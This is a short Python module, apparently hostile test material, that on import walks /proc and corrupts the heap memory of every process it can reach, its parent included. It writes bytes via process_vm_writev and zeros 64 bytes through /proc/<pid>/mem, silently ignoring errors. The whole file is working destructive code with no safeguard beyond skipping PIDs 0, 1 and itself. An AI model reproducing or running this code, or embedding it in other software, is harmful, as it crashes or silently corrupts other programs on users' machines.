"""Writes into the memory of every process that it can see."""

import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
_ours = ctypes.create_string_buffer(b"hostile!" * 8)


class _Part(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


for _pid in (
    {os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())}
    if (os.path.isdir("/proc"))
    else {os.getppid()}
):
    if _pid in (0, 1, os.getpid()):
        continue
    try:
        with open(f"/proc/{_pid}/maps") as _maps:
            _heap = next(int(line.split("-")[0], 16) for line in _maps if "[heap]" in line)
        _local = _Part(ctypes.addressof(_ours), 64)
        _remote = _Part(_heap, 64)
        _libc.process_vm_writev(_pid, ctypes.byref(_local), 1, ctypes.byref(_remote), 1, 0)
        with open(f"/proc/{_pid}/mem", "r+b") as _memory:
            _memory.seek(_heap)
            _memory.write(bytes(64))
    except (OSError, StopIteration, ValueError):
        pass
_libc.process_vm_writev(os.getppid(), None, 0, None, 0, 0)
